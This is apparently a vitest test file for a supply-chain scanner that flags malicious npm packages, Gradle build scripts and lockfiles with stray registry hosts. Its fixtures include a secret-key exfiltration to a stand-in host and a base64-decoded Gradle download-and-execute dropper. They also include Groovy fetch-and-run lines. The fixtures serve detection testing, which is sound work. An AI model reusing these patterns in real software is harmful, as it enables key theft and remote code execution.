import type { AgentFinding, AgentResult } from '@vigil/core';
import { describe, expect, it } from 'vitest';
import { dirWith } from '../../../sandbox/src/test-support/temp-dirs.js';
import { javascriptFacts } from './code/javascript/javascript-facts.js';
import { analyzePackage } from './packages/analyze-package.js';
import { analyzeRepository } from './repositories/analyze-repository.js';
import { gradleScriptFindings } from './repositories/gradle-script-findings.js';
import { configuredRegistryHosts, strayRegistryHostFindings } from './repositories/stray-registry-hosts.js';

const pkg = async (files: Record<string, string>): Promise<AgentResult> => analyzePackage({ dir: await dirWith(files), track: 'packages', bundleHash: null });
const repo = async (files: Record<string, string>): Promise<AgentResult> => analyzeRepository({ dir: await dirWith(files), track: 'repositories', bundleHash: null });
const titles = (r: AgentResult) => r.findings.map((f: AgentFinding) => `${f.severity} ${f.title}`);
const callees = (text: string) => javascriptFacts(text).calls.map((c) => c.callee);

// Issue 24, round s16-misc: IN-SAMPLE for the sixteenth held-out set (written after its results were read).
describe('bundler interop helpers name the module they wrap', () => {
  it('Rollup, TypeScript, Babel and esbuild wrappers', () => {
    expect(callees(`var f = require('node-fetch');\nfunction _interopDefaultCompat(e) { return e && 'default' in e ? e : { default: e }; }\nvar f__default = _interopDefaultCompat(f);\nfunction go(u) { f__default.default(u); }\n`)).toContain('node-fetch');
    expect(callees(`const fs_1 = __importStar(require("fs"));\nfunction r() { return fs_1.readFileSync('/x'); }\n`)).toContain('fs.readFileSync');
    expect(callees(`var _axios = _interopRequireDefault(require("axios"));\nfunction p(u) { _axios.default.post(u, {}); }\n`)).toContain('axios.post');
    expect(callees(`var import_os = __toESM(require("os"));\nfunction h() { return import_os.default.homedir(); }\n`)).toContain('os.homedir');
  });
  it('a function of its own named like a helper but wrapping nothing stays unnamed', () => {
    expect(callees(`const cfg = _interopDefault(loadConfig());\nfunction go() { cfg.default.run(); }\n`)).not.toContain('run');
  });
});

const ROLLUP_HEAD = `'use strict';\nvar fetch = require('node-fetch');\nfunction _interopDefaultCompat(e) { return e && typeof e === 'object' && 'default' in e ? e : { default: e }; }\nvar fetch__default = _interopDefaultCompat(fetch);\n`;

describe('packages: key material sent through an interop-wrapped client', () => {
  it('a keypair constructor that hands the secret key to a function posting it in a header is CRIT', async () => {
    const lib = `${ROLLUP_HEAD}const note = (k) => {\n  const v = Buffer.from(k).toString('hex');\n  fetch__default.default('https://edge.keys-cdn.example/q', { method: 'POST', headers: { 'x-request-id': v } }).catch(() => {});\n};\nclass Keypair {\n  constructor(secretKey) { this._sk = secretKey; }\n  static fromSecretKey(secretKey) { note(secretKey); return new Keypair(secretKey); }\n}\nexports.Keypair = Keypair;\n`;
    const r = await pkg({ 'package.json': JSON.stringify({ name: 'chain-kit', version: '1.0.0', main: 'lib/index.cjs.js' }), 'lib/index.cjs.js': lib });
    expect(r.verdict).toBe('BLOCK');
    expect(titles(r)).toContain('CRIT Credentials or the environment flow to a network call');
  });
  it('the same SDK signing locally and sending the signed transaction to its user endpoint is clean', async () => {
    const lib = `${ROLLUP_HEAD}const ed = require('@noble/curves/ed25519');\nclass Keypair {\n  constructor(secretKey) { this._sk = secretKey; }\n  static fromSecretKey(secretKey) { return new Keypair(secretKey); }\n  sign(m) { return ed.ed25519.sign(m, this._sk.slice(0, 32)); }\n}\nclass Connection {\n  constructor(endpoint) { this.endpoint = endpoint; }\n  async send(message, signer) {\n    const sig = signer.sign(message);\n    const res = await fetch__default.default(this.endpoint, { method: 'POST', body: JSON.stringify({ method: 'sendTransaction', params: [Buffer.from(sig).toString('base64')] }) });\n    return res.json();\n  }\n}\nexports.Keypair = Keypair;\nexports.Connection = Connection;\n`;
    const r = await pkg({ 'package.json': JSON.stringify({ name: 'chain-kit', version: '1.0.0', main: 'lib/index.cjs.js' }), 'lib/index.cjs.js': lib });
    expect(r.verdict).toBe('ALLOW');
  });
});

describe('repositories: Gradle build logic', () => {
  const KTS_DROPPER = `import java.net.URL\nimport java.util.Base64\nval src = String(Base64.getDecoder().decode("aHR0cDovLzE5Mi4wLjIuOS9h"))\nval f = File(System.getProperty("java.io.tmpdir"), "agent")\nURL(src).openStream().use { i -> f.outputStream().use { i.copyTo(it) } }\nf.setExecutable(true)\nProcessBuilder(f.absolutePath).start()\n`;
  it('Kotlin DSL: download from a decoded address, made executable, started: CRIT', () => {
    expect(gradleScriptFindings('gradle/setup.gradle.kts', KTS_DROPPER).map((f) => `${f.severity} ${f.title}`)).toEqual(['CRIT Gradle build logic downloads a program and runs it']);
  });
  it('Groovy DSL: fetched text executed in one statement, and a plain-HTTP download run after chmod: CRIT', () => {
    expect(gradleScriptFindings('build.gradle', `def s = new URL("https://cfg.example.net/s.sh").text.execute()\n`).map((f) => f.severity)).toEqual(['CRIT']);
    const groovy = `def f = new File(buildDir, 'x')\nnew URL("http://203.0.113.5/x").withInputStream { i -> f.withOutputStream { it << i } }\n"chmod +x \${f}".execute()\n[f.path].execute()\n`;
    expect(gradleScriptFindings('gradle/tools.gradle', groovy).map((f) => f.severity)).toEqual(['CRIT']);
  });
  it('a command decoded at run time and run: CRIT; a decoded keystore beside a git command: nothing', () => {
    expect(gradleScriptFindings('build.gradle.kts', `val c = String(Base64.getDecoder().decode("ZWNobyBoaQ=="))\nRuntime.getRuntime().exec(arrayOf("sh", "-c", c))\n`).map((f) => f.title)).toEqual(['Gradle build logic runs a command it decodes at run time']);
    const android = `val sha = providers.exec { commandLine("git", "rev-parse", "HEAD") }.standardOutput.asText.get()\nSystem.getenv("KS_B64")?.let { val ks = Base64.getDecoder().decode(it); file("release.jks").writeBytes(ks) }\n`;
    expect(gradleScriptFindings('app/build.gradle.kts', android)).toEqual([]);
  });
  it('a pinned tool release from github.com, made executable and run in a task: MED only; a download without a run: nothing', () => {
    const tool = `tasks.register("tool") { doLast { URL("https://github.com/acme/gen/releases/download/v1/gen").openStream().use { i -> f.outputStream().use { i.copyTo(it) } }; f.setExecutable(true) } }\ntasks.register<Exec>("gen") { commandLine(f.absolutePath, "--out", "src") }\n`;
    expect(gradleScriptFindings('build.gradle.kts', tool).map((f) => f.severity)).toEqual(['MED']);
    expect(gradleScriptFindings('build.gradle.kts', `val schema = URL("https://json.schemastore.org/x.json").readText()\nfile("build/x.json").writeText(schema)\n`)).toEqual([]);
  });
  it('the checkout: a dropper applied from build.gradle.kts blocks', async () => {
    const r = await repo({ 'build.gradle.kts': 'apply(from = "gradle/setup.gradle.kts")\n', 'settings.gradle.kts': 'rootProject.name = "x"\n', 'gradle/setup.gradle.kts': KTS_DROPPER });
    expect(r.verdict).toBe('BLOCK');
  });
});

const entry = (name: string, host: string, extra = '') => `    "node_modules/${name}": {\n      "version": "1.0.0",\n      "resolved": "https://${host}/${name}/-/${name.split('/').pop()}-1.0.0.tgz",\n      "integrity": "sha512-AAAA"${extra}\n    }`;
const NAMES = ['a-lib', 'b-lib', 'c-lib', 'd-lib', 'e-lib', 'f-lib', 'g-lib', 'h-lib', 'i-lib', 'j-lib'];
const lock = (entries: string[]) => `{\n  "name": "app",\n  "lockfileVersion": 3,\n  "packages": {\n    "": { "name": "app" },\n${entries.join(',\n')}\n  }\n}\n`;

describe('repositories: lockfile entries resolved from a stray host', () => {
  it('one entry off the registry with an install script is CRIT; without one, HIGH', () => {
    const scripted = lock([...NAMES.map((n) => entry(n, 'registry.npmjs.org')), entry('k-lib', 'registry.npm-cache.example', ',\n      "hasInstallScript": true')]);
    expect(strayRegistryHostFindings('package-lock.json', scripted, 11, new Set(['k-lib']), new Set()).map((f) => f.severity)).toEqual(['CRIT']);
    const plain = lock([...NAMES.map((n) => entry(n, 'registry.npmjs.org')), entry('k-lib', 'registry.npm-cache.example')]);
    expect(strayRegistryHostFindings('package-lock.json', plain, 11, new Set(), new Set()).map((f) => f.severity)).toEqual(['HIGH']);
  });
  it('a lockfile wholly on a company registry, public mirrors and configured hosts are no strays', () => {
    expect(strayRegistryHostFindings('package-lock.json', lock(NAMES.map((n) => entry(n, 'npm.corp.example'))), 10, new Set(), new Set())).toEqual([]);
    expect(strayRegistryHostFindings('package-lock.json', lock([...NAMES.map((n) => entry(n, 'registry.npmjs.org')), entry('k-lib', 'registry.npmmirror.com')]), 11, new Set(), new Set())).toEqual([]);
    const configured = configuredRegistryHosts(['@corp:registry=https://npm.corp.example/\n', 'npmRegistryServer: "https://yarn.corp.example"\n']);
    expect([...configured].sort()).toEqual(['npm.corp.example', 'yarn.corp.example']);
    expect(strayRegistryHostFindings('package-lock.json', lock([...NAMES.map((n) => entry(n, 'registry.npmjs.org')), entry('k-lib', 'npm.corp.example')]), 11, new Set(), configured)).toEqual([]);
  });
  it('a company scope served whole from its own host is a scope registry', () => {
    const scoped = lock([...NAMES.map((n) => entry(n, 'registry.npmjs.org')), entry('@corp/ui', 'npm.corp.example'), entry('@corp/http', 'npm.corp.example')]);
    expect(strayRegistryHostFindings('package-lock.json', scoped, 12, new Set(), new Set())).toEqual([]);
  });
  it('yarn.lock resolved URLs are judged the same way', () => {
    const yarn = ['# yarn lockfile v1', ''].concat([...NAMES, 'k-lib'].flatMap((n) => [`${n}@^1.0.0:`, '  version "1.0.0"', `  resolved "https://${n === 'k-lib' ? 'cdn.yarn-cache.example' : 'registry.yarnpkg.com'}/${n}/-/${n}-1.0.0.tgz#abc"`, ''])).join('\n');
    expect(strayRegistryHostFindings('yarn.lock', yarn, 11, new Set(), new Set()).map((f) => f.severity)).toEqual(['HIGH']);
  });
  it('the checkout: .npmrc configuring the host keeps a scoped entry clean', async () => {
    const text = lock([...NAMES.map((n) => entry(n, 'registry.npmjs.org')), entry('@corp/ui', 'npm.corp.example'), entry('k-lib', 'npm.corp.example')]);
    const clean = await repo({ 'package.json': '{"name":"app"}', 'package-lock.json': text, '.npmrc': 'registry=https://npm.corp.example/\n' });
    expect(titles(clean).filter((t) => /stray|rest of the lockfile/.test(t))).toEqual([]);
    const flagged = await repo({ 'package.json': '{"name":"app"}', 'package-lock.json': text });
    expect(titles(flagged)).toContain('HIGH lockfile entry resolves from a host the rest of the lockfile and the registry configuration do not use');
  });
});
